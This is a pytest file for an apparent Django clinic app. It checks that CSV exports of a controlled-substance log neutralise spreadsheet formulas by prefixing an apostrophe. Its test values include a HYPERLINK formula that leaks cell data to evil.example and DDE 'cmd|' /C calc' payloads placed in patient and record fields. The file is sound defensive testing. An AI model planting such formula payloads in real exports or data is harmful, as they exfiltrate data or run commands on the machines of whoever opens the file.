"""CSV exports cannot smuggle a formula into the spreadsheet that opens them: a cell that
starts like a formula (=, +, -, @, tab, carriage return) is prefixed with an apostrophe."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.http import HttpRequest
from django.urls import reverse

from clinic.spreadsheet import csv_safe_cell, csv_text
from clinical import selectors, services
from tests.clinical.conftest import SESSION_START
from tests.clinical_helpers import record_pre_vitals
from tests.factories import PASSWORD

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("KX-2231", "KX-2231"),
        ("", ""),
        ("40.00", "40.00"),
        ("-12.5", "-12.5"),  # a plain number stays a number
        (17, "17"),
        (None, ""),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(value, written):
    assert csv_safe_cell(value) == written


def test_csv_text_neutralises_every_cell_including_the_header():
    text = csv_text(["=header", "ok"], [["@evil", 3]])
    assert list(csv.reader(io.StringIO(text))) == [["'=header", "ok"], ["'@evil", "3"]]


@pytest.fixture
def hostile_entry(ward):
    """An administration whose free-text fields carry formulas, as a careless or hostile user might type them."""
    patient = ward.session.patient
    patient.first_name = "=cmd|' /C calc'!A0"
    patient.save(update_fields=["first_name"])
    record_pre_vitals(ward.session, ward.nurse.user)
    administration = services.administration_record(
        appointment=ward.session,
        route="iv",
        dose_mg_per_kg=Decimal("0.5"),
        weight_kg=Decimal("80"),
        total_mg=Decimal("40"),
        started_at=SESSION_START + dt.timedelta(minutes=10),
        ended_at=SESSION_START + dt.timedelta(minutes=50),
        lot_number=HYPERLINK,
        given_by=ward.nurse,
        actor=ward.nurse.user,
        now=SESSION_START + dt.timedelta(minutes=52),
    )
    entry = administration.log_entries.get()
    services.controlled_substance_correct(
        entry=entry,
        lot_number="KX-1",
        reason="@SUM(1+1)*cmd|' /C calc'!A0",
        actor=ward.prescriber.user,
        now=SESSION_START + dt.timedelta(hours=1),
    )
    return entry


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_controlled_substance_csv_writes_hostile_values_as_text(ward, hostile_entry):
    first, correction = _rows(selectors.controlled_substance_csv(selectors.controlled_substance_log(), role="nurse"))
    assert first["lot_number"] == "'" + HYPERLINK
    assert first["patient"].startswith("'=cmd")
    assert correction["reason"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert (first["lot_number"], correction["lot_number"], first["total_mg"]) == ("'" + HYPERLINK, "KX-1", "40.00")


def test_the_csv_page_and_api_export_write_hostile_values_as_text(client, ward, hostile_entry):
    assert client.login(request=HttpRequest(), username=ward.nurse.user.username, password=PASSWORD)
    page = _rows(client.get(reverse("clinical:cs-log-csv")).content.decode())
    api = _rows(ward.client("clinic_admin").get("/api/v1/clinical/controlled-substance-log/export/").content.decode())
    for rows in (page, api):
        assert rows[0]["lot_number"] == "'" + HYPERLINK
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
